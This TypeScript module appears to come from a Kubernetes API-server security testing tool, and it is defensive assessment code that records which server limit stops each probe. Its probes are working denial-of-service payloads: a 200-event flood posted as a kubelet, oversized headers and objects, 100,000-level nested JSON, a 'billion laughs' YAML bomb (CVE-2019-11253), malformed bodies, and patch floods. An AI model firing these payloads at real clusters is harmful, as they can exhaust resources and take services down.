import type { Call } from '../../api-server/client';
import { about, type Draft } from '../attack';
import { barrierOf } from '../barrier';
import { judged, request, unconnected, untried } from '../request-attack';
import { stageLabel } from '../stage';
import type { Target } from '../target';

const mapsOf = ({ namespace }: Target) => `/api/v1/namespaces/${namespace}/configmaps`;
const map = (name: string, data: object) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name }, data });

/** Beyond what a request may have, 3 MiB. */
const tooMuch = 4 * 1024 * 1024;
/** Levels of nesting: ten times what the decoder takes. */
const depth = 100_000;

/** The laughs of a billion: eight aliases of eight aliases, nine times over. */
function yamlBomb(): string {
  const lines = ['a0: &a0 [lol,lol,lol,lol,lol,lol,lol,lol]'];
  for (let level = 1; level <= 9; level += 1) {
    lines.push(
      `a${level}: &a${level} [${Array(8)
        .fill(`*a${level - 1}`)
        .join(',')}]`,
    );
  }
  return `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: attack-bomb}\n${lines.join('\n')}\n`;
}

const patchOf =
  (operations: readonly object[]) =>
  (target: Target): Call => ({
    method: 'PATCH',
    path: `${mapsOf(target)}/${target.map ?? 'attack'}?dryRun=All`,
    contentType: 'application/json-patch+json',
    body: operations,
  });

/** Ten events a second of one source about one object are taken, and 50 at once; this is far beyond. */
const flood = 200;

const events: Draft = {
  id: 'event-flood',
  title: `Flood the store with ${flood} events at once, as a kubelet, to push out what is true`,
  technique: 'T1499',
  // The limit does not count dry runs.
  mutates: true,
  stoppedBy: 'EventRateLimit',
  run: async (target) => {
    const client = target.as('node');
    if (client === undefined) return untried('it needs the credential of a node');
    const { namespace, nodes } = target;
    const host = nodes?.own ?? 'attack';
    const calls = Array.from({ length: flood }, (_, index) =>
      client.send({
        method: 'POST',
        path: `/api/v1/namespaces/${namespace}/events`,
        body: {
          apiVersion: 'v1',
          kind: 'Event',
          metadata: { name: `attack-flood-${index}`, labels: stageLabel },
          involvedObject: { kind: 'Pod', namespace, name: 'attack' },
          source: { component: 'kubelet', host },
          reason: 'Attack',
          message: 'flood',
        },
      }),
    );
    const answers = await Promise.all(calls);
    const refused = answers.find(({ status }) => status !== 201);
    const accepted = answers.filter(({ status }) => status === 201).length;
    const auditIds = [refused?.auditId ?? answers[0]?.auditId].filter((id) => id !== undefined);
    if (refused === undefined) return { result: 'succeeded', evidence: `all ${accepted} taken`, auditIds };
    const { status, message } = refused;
    return { result: 'refused', by: barrierOf(status, message), status, message, auditIds };
  },
};

const header: Draft = {
  id: 'huge-header',
  title: 'Send a header of 2 MiB',
  technique: 'T1499',
  mutates: false,
  stoppedBy: 'header size limit',
  safeByDefault: 'headers are bounded, by default too',
  unlogged: 'the request is refused before the API server’s own code sees it',
  run: async (target) => {
    const client = target.as('outsider');
    if (client === undefined) return untried('it needs the credential of an outsider');
    try {
      return judged(
        await client.send({ method: 'GET', path: '/version', headers: { 'X-Attack': 'a'.repeat(2 ** 21) } }),
      );
    } catch (error) {
      return unconnected(error, 'header size limit');
    }
  },
};

const bounded = (what: string) => `${what}, by default too`;

/** Too much, too deep, or not what it says it is. */
export const floodsAndMalformed = about('floods-and-malformed', [
  events,
  header,
  ...(
    [
      [
        'huge-object',
        'Send an object of 4 MiB',
        'request size limit',
        'requests are bounded to 3 MiB',
        (target) => ({ method: 'POST', path: mapsOf(target), body: map('attack-huge', { a: 'a'.repeat(tooMuch) }) }),
      ],
      [
        'deeply-nested-object',
        `Send an object of ${depth} levels, to exhaust the stack`,
        'request decoding',
        'the depth of JSON is bounded',
        (target) => ({
          method: 'POST',
          path: mapsOf(target),
          body: `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"attack-deep"},"data":${'['.repeat(depth)}${']'.repeat(depth)}}`,
        }),
      ],
      [
        'yaml-bomb',
        'Send YAML of 600 bytes that unfolds to a billion words (CVE-2019-11253)',
        'request decoding',
        'aliases in YAML are bounded',
        (target) => ({ method: 'POST', path: mapsOf(target), contentType: 'application/yaml', body: yamlBomb() }),
      ],
      [
        'truncated-json',
        'Send JSON that ends in the middle',
        'request decoding',
        'it cannot be read',
        (target) => ({
          method: 'POST',
          path: mapsOf(target),
          body: '{"apiVersion":"v1","kind":"ConfigMap","metadata":{"na',
        }),
      ],
      [
        'garbage-protobuf',
        'Send random bytes as protobuf',
        'request decoding',
        'it cannot be read',
        (target) => ({
          method: 'POST',
          path: mapsOf(target),
          contentType: 'application/vnd.kubernetes.protobuf',
          body: Buffer.from('6b387300ffffffffffffffffffffff7f0a', 'hex'),
        }),
      ],
      [
        'unknown-content-type',
        'Send a content type that the server does not know',
        'request decoding',
        'it cannot be read',
        (target) => ({
          method: 'POST',
          path: mapsOf(target),
          contentType: 'application/x-java-serialized-object',
          body: 'aced0005',
        }),
      ],
      [
        'patch-with-too-many-operations',
        'Patch with 20,000 operations in one request',
        'request size limit',
        'operations of a patch are bounded',
        patchOf(Array.from({ length: 20_000 }, () => ({ op: 'test', path: '/kind', value: 'ConfigMap' }))),
      ],
      [
        'patch-that-doubles',
        'Patch by copies that double an object 30 times',
        'validation',
        'copies in a patch are bounded',
        patchOf(Array.from({ length: 30 }, (_, index) => ({ op: 'copy', from: '/data', path: `/data/a${index}` }))),
      ],
    ] as const satisfies readonly (readonly [string, string, string, string, (target: Target) => Call])[]
  ).map(([id, title, stoppedBy, why, call]) =>
    request({ id, title, technique: 'T1499', as: 'developer', stoppedBy, safeByDefault: bounded(why), call }),
  ),
]);
